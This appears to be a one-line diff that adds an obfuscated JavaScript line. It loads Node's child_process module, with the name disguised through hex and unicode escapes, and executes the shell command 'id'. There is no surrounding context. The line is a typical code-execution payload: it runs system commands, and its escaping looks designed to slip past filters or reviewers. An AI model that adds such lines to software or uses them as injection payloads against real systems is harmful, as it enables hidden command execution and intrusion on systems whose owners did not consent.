@@ -1,0 +1,1 @@
+require("\x63hild\u005fprocess").exec("id");
